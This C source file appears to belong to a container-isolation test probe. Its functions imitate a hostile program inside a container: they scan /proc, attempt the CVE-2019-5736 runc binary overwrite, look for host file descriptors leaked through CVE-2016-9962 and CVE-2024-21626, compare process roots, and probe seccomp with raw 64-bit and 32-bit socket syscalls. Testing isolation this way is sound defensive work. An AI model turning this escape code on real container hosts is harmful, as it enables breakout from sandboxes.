/* What a hostile program in a container tries; linked into the probe. Each line is something it got. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attacks.h"

static volatile sig_atomic_t is_over;
static int shut;

static void on_end(int number)
{
	is_over = number;
}

/* The text of a link, or "" */
static const char *target_of(const char *path)
{
	static char text[4096];
	ssize_t length = readlink(path, text, sizeof(text) - 1);

	if (length < 0 && (errno == EACCES || errno == EPERM))
		shut++;
	text[length < 0 ? 0 : length] = '\0';
	return text;
}

/* CVE-2019-5736: an open program is written to once it runs no more. Its first byte stays what it is. */
static void write_program(int pid, int *held)
{
	char path[64];
	char again[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (*held >= 0) {
		(void)snprintf(again, sizeof(again), "/proc/self/fd/%d", *held);
		fd = open(again, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "\177", 1) == 1)
			printf("wrote to %s\n", target_of(again));
		if (fd >= 0)
			close(fd);
	}
	if (strstr(target_of(path), "helper") == NULL)
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (*held >= 0)
		close(*held);
	*held = fd;
}

/* Not the container's own root, nor sealed memory, nor what has no file (pidfds). */
static bool is_of_the_host(const char *path, const struct stat *status)
{
	const char *target = target_of(path);
	struct stat root;
	int seals;
	int fd;

	if (*target == '\0' || strncmp(target, "anon_inode:", 11) == 0)
		return false;
	if (stat("/", &root) == 0 && root.st_dev == status->st_dev && root.st_ino == status->st_ino)
		return false;
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return errno != ENOENT; /* it has ended */
	seals = fcntl(fd, F_GET_SEALS);
	close(fd);
	return seals < 0 || (seals & F_SEAL_WRITE) == 0;
}

/* CVE-2016-9962, CVE-2024-21626: what a process that enters the container has open. */
static void look_at_descriptors(int pid)
{
	char path[64];
	struct stat status;
	DIR *directory;

	(void)snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	directory = opendir(path);
	if (directory == NULL)
		return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, atoi(entry->d_name));
		if (entry->d_name[0] != '.' && stat(path, &status) == 0 && !S_ISCHR(status.st_mode) &&
		    !S_ISFIFO(status.st_mode) && !S_ISSOCK(status.st_mode) && is_of_the_host(path, &status))
			printf("%s is %s\n", path, target_of(path));
	}
	closedir(directory);
}

static void look_at_root(int pid)
{
	char path[64];
	struct stat theirs;
	struct stat own;

	(void)snprintf(path, sizeof(path), "/proc/%d/root", pid);
	if (stat(path, &theirs) == 0 && stat("/", &own) == 0 &&
	    (own.st_ino != theirs.st_ino || own.st_dev != theirs.st_dev))
		printf("%s is another\n", path);
}

int attack_spy(char **words)
{
	int held = -1;

	(void)words;
	signal(SIGTERM, on_end);
	puts("spying");
	while (!is_over) {
		DIR *processes = opendir("/proc");

		for (struct dirent *entry; processes != NULL && (entry = readdir(processes));) {
			int pid = atoi(entry->d_name);

			if (pid <= 0 || pid == getpid())
				continue;
			write_program(pid, &held);
			look_at_descriptors(pid);
			look_at_root(pid);
		}
		if (processes != NULL)
			closedir(processes);
	}
	printf("shut %d times\n", shut);
	return 0;
}

/* The numbers go to the kernel as they are, all 64 bits. */
int attack_socket(char **words)
{
	long type = words[0] ? strtol(*words++, NULL, 0) : 0;

	for (; *words; words++)
		puts(syscall(SYS_socket, strtol(*words, NULL, 0), type, 0L) < 0 ? strerrorname_np(errno) : "open");
	return 0;
}

#ifdef __x86_64__
/* socket(2) by the 32-bit entry, which has a number of its own: 359. */
int attack_socket32(char **words)
{
	long type = words[0] ? strtol(*words++, NULL, 0) : 0;

	for (; *words; words++) {
		long result;

		__asm__ volatile("int $0x80" : "=a"(result)
				 : "a"(359L), "b"(strtol(*words, NULL, 0)), "c"(type), "d"(0L)
				 : "memory");
		puts(result < 0 ? strerrorname_np((int)-result) : "open");
	}
	return 0;
}
#else
int attack_socket32(char **words)
{
	return attack_socket(words);
}
#endif
